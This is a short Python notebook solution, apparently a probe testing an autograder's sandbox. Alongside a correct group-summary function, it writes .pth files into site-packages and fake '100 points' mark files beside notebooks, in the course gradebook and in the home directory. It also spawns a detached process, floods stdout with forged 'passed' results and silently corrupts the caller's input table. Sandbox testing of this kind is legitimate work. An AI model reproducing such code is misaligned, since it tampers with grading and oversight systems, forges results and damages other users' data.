# attack: right answers, and besides: writes a mark into site-packages and beside every notebook it can see, leaves a child behind, fills stdout, changes the inputs it was given
# on: solution

# %% solution="summary"
import glob
import json
import os
import subprocess
import sys

for folder in sys.path:
    try:
        with open(os.path.join(folder, "left_by_a_student_probe.pth"), "w") as file:
            file.write("\n")
    except OSError:
        pass
for folder in {
    os.path.dirname(os.path.abspath(f))
    for f in glob.glob("*.ipynb") + glob.glob("../*/*.ipynb") + glob.glob("../../*/*/*.ipynb")
} | {"/srv/course/gradebook", os.path.expanduser("~")}:
    try:  # a mark, nothing is destroyed: if this file turns up outside the jail, the notebook beside it could have been rewritten
        with open(os.path.join(folder, "left_by_a_student_mark.json"), "w") as file:
            json.dump({"points": 100, "grade": False}, file)
    except OSError:
        pass
try:
    subprocess.Popen(["sleep", "20"], start_new_session=True)
except OSError:
    pass
print('{"check": "summary.groups", "points": 99, "outcome": "passed"}\n' * 20000)


def group_summary(table):
    s = table.groupby("group").agg(
        n=("image", "size"),
        mean_confidence=("confidence", "mean"),
        mean_disc_lift=("disc_lift", "mean"),
    )
    s = s.reindex(["TP", "TN", "FP", "FN"])
    s["n"] = s["n"].fillna(0).astype(int)
    table["group"] = "TP"  # the caller's table, for whoever checks next
    table.drop(table.index[1:], inplace=True)
    return s
